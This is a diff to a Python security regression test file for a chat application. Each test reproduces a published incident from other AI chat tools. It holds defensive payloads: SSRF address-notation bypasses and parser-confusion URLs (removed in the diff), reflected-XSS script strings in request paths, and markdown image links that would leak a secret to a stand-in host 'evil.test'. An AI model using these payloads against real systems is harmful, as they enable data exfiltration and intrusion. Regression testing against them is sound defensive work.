@@ -1,10 +1,9 @@
 """What has happened to others, tried here. Each test names the incident; the comment says what went wrong there.
 
 Incidents of parts with tests of their own are tried there: addresses and redirects in tests/tools, HTML and images in
-tests/ui/test_markdown_safety.py and tests/browser, every method of the store with foreign ids in tests/store.
+tests/ui and tests/browser, every method of the store with foreign ids in tests/store.
 """
 
-import asyncio
 import random
 import re
 import socket
@@ -21,14 +20,15 @@ from websockets.sync.client import connect
 from websockets.typing import Subprotocol
 
 from orchat.demo import DemoServer
-from orchat.errors import NotFoundError, ToolError
+from orchat.errors import NotFoundError
 from orchat.store import Store
 from orchat.ui.markdown import presentable
 from orchat.ui.wording import plain
 from tests.browser.app_process import ROOT, AppProcess
 from tests.hosting.conftest import HOSTED
 from tests.hosting.test_trusted_proxy import ProxiedTab
-from tools.web_page.fetch import Fetcher
+from tests.ui.markdown_corpus import NASTY
+from tests.ui.test_markdown_safety import BROWSER, images, tokens
 
 LOCK = (ROOT / "requirements.lock").read_text()
 ANN, EVE = "proxy|ann", "proxy|eve"
@@ -73,26 +73,6 @@ def status(answer: bytes) -> int:
 
 def alive(app: AppProcess) -> bool:
     return httpx.get(f"{app.url}/ready").status_code == 200
-
-
-def fetch(url: str) -> None:
-    asyncio.run(Fetcher().fetch(url))
-
-
-@pytest.mark.parametrize(
-    "host", ["[::ffff:a9fe:a9fe]", "[::ffff:7f00:1]", "0x7f.1", "2130706433", "[fd00::1]", "0.0.0.0"]
-)
-def test_cve_2026_31943_an_inner_address_in_another_notation_is_refused(host: str):
-    # LibreChat: the filter missed IPv4 in hexadecimal IPv6.
-    with pytest.raises(ToolError):
-        fetch(f"http://{host}/")
-
-
-@pytest.mark.parametrize("url", [r"http://good.com\@127.0.0.1/", "http://127.0.0.1#@good.com", "http://a:b@127.0.0.1/"])
-def test_cve_2026_45400_two_readings_of_one_address_are_one(url: str):
-    # Open WebUI: what was checked and what was connected to were parsed by two parsers.
-    with pytest.raises(ToolError):
-        fetch(url)
 
 
 @pytest.mark.parametrize(
@@ -186,10 +166,15 @@ def test_cve_2025_64495_text_is_shown_and_never_run(text: str):
     assert "<script" not in plain(text).replace("\\<", "")
 
 
-@pytest.mark.parametrize("text", ["![x](https://evil.test/?q=secret)", "![x][1]\n\n[1]: https://evil.test/?q=secret"])
-def test_markdown_exfiltration_no_image_is_loaded_from_another_host(text: str):
+@pytest.mark.parametrize("text", NASTY)
+@pytest.mark.parametrize("to_be_continued", [False, True], ids=["whole", "streaming"])
+def test_ai_dial_chat_7109_dust_12359_dify_30874_no_image_is_loaded_from_another_host(text: str, to_be_continued: bool):
     # dial-chat, dust, dify: an image whose address holds what was to stay secret.
-    assert not re.search(r"(?<!\\)!\[", presentable(text))
+    shown = presentable(text.format(base="https://evil.test/?q=secret"), open=to_be_continued)
+    assert images(shown) == []
+    assert not any(token.type.startswith("html") for token in tokens(BROWSER, shown))
+    drawn = re.search(r"```mermaid.*?(https://evil\.test|@import|url\()", shown, re.DOTALL | re.IGNORECASE)
+    assert drawn is None
 
 
 def session_of(tab: ProxiedTab, old: str = "") -> str:
@@ -281,9 +266,22 @@ def test_cve_2026_33682_cve_2024_42474_cve_2022_35918_cve_2026_48818_no_path_lea
 
 
 @pytest.mark.parametrize(
+    "path", ["/{}", "/?x={}", "/models/{}", "/static/{}", "/component/{}/x", "/media/{}", "/ready?{}"]
+)
+@pytest.mark.parametrize("script", ["<script>alert(27494)</script>", "%3Cscript%3Ealert(27494)%3C/script%3E"])
+def test_cve_2023_27494_a_script_in_an_address_is_in_no_answer(app: AppProcess, path: str, script: str):
+    # Streamlit: a part of the address was written into the page of an error.
+    answer = raw(app, f"GET {path.format(script)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
+    assert status(answer) in (200, 307, 400, 403, 404)
+    assert b"<script>alert(27494)" not in answer
+
+
+@pytest.mark.parametrize(
     "package, least", [("streamlit", "1.59"), ("starlette", "1.0.1"), ("python-multipart", "0.0.22")]
 )
-def test_cve_2026_48710_cve_2026_24486_the_locked_versions_have_the_repair(package: str, least: str):
+def test_cve_2026_48710_cve_2026_24486_cve_2026_48818_cve_2026_33682_the_locked_versions_have_the_repair(
+    package: str, least: str
+):
     found = re.search(rf"^{package}==(\S+)", LOCK, re.MULTILINE)
     assert found
     assert Version(found[1]) >= Version(least)
